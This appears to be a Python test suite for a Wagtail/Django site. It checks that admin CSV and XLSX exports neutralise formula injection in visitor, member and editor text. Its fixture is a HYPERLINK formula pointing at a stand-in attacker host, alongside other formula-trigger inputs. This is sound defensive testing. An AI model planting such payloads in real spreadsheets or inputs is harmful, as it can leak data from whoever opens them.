"""Every spreadsheet the admin hands out, Wagtail's own exports included, opens with no
live formula: text a visitor, member or editor typed arrives as plain text."""

import csv
import io

import pytest
from django.test import Client
from django.urls import get_resolver, reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from core.spreadsheet import csv_safe
from feedback.models import SuggestionBoxPage
from members.models import Role
from tests.factories import BranchFactory, UserFactory, login, make_member

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak","点我")'


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


def assert_no_formula(rows: list[list[str]], typed: str) -> None:
    every = cells(rows)
    assert "'" + typed in every, every
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in every), every


@pytest.fixture
def superuser():
    return UserFactory(username="boss", is_superuser=True, is_staff=True)


def search(term: str) -> None:
    assert Client(REMOTE_ADDR="203.0.113.50").get("/search/", {"q": term}).status_code == 200


def test_a_searched_formula_is_plain_text_in_the_editors_search_term_exports(editor):
    search(FORMULA)
    search("+QQZZXX9")  # finds nothing: the zero-result report
    admin = login(editor)
    reports = {
        "/admin/reports/popular-queries/": FORMULA.lower(),  # Wagtail keeps terms lower-cased
        "/admin/reports/zero-result-queries/": "+qqzzxx9",
    }
    for report, typed in reports.items():
        assert_no_formula(csv_rows(admin.get(report, {"export": "csv"})), typed)
        workbook = load_workbook(io.BytesIO(admin.get(report, {"export": "xlsx"}).getvalue()))
        values = [cell for row in workbook.active.iter_rows() for cell in row]
        assert any(cell.value == typed and cell.data_type == "s" for cell in values)


def test_wagtails_own_search_terms_report_is_plain_text_too(superuser):
    search("@SUM(1+1)")
    report = reverse("wagtailsearchpromotions:search_terms")
    rows = csv_rows(login(superuser).get(report, {"export": "csv"}))
    assert_no_formula(rows, "@sum(1+1)")


def test_a_suggestion_box_post_is_plain_text_in_the_submissions_export(client, editor):
    box = SuggestionBoxPage.objects.live().get()
    names = [field.clean_name for field in box.get_form_fields()]
    data = dict(zip(names, ["内容建议", "+" + FORMULA, "-1+2"], strict=True))
    assert client.post(box.url, data).status_code == 200
    rows = csv_rows(login(editor).get(f"/admin/forms/submissions/{box.pk}/", {"export": "csv"}))
    assert_no_formula(rows, "+" + FORMULA)
    assert "'-1+2" in cells(rows)


def test_a_formula_in_a_branch_name_is_plain_text_in_the_audit_export(superuser):
    branch = BranchFactory(name=FORMULA)
    make_member("shuji", branch=branch, role=Role.ORGANISER, name="周书记")
    login(make_member("shuji2", branch=branch, role=Role.ORGANISER)).get("/branch/")
    rows = csv_rows(login(superuser).get("/admin/reports/access-records/", {"export": "csv"}))
    assert_no_formula(rows, FORMULA)


def test_full_width_formula_signs_are_neutralised_as_well():
    for typed in ("＝1+1", "＋1", "－1", "＠SUM(1)"):
        assert csv_safe(typed) == "'" + typed
    assert csv_safe("井冈山") == "井冈山"
    assert csv_safe("") == ""


def export_views():
    """Every admin URL whose view hands out spreadsheets (Wagtail's and ours)."""
    found = {}

    def walk(patterns, prefix=""):
        for pattern in patterns:
            if hasattr(pattern, "url_patterns"):
                walk(pattern.url_patterns, prefix + str(pattern.pattern))
                continue
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class and issubclass(view_class, SpreadsheetExportMixin):
                found[prefix + str(pattern.pattern)] = view_class

    walk(get_resolver().url_patterns)
    return found


def test_every_admin_export_view_writes_rows_through_our_rule():
    views = export_views()
    assert len(views) > 10  # reports, snippets, form submissions, redirects…
    for route, view_class in views.items():
        view = view_class()
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=["a", "b"])
        view.write_csv_row(writer, {"a": "=1+1", "b": 7})
        assert out.getvalue().startswith("'=1+1,7"), (route, view_class, out.getvalue())
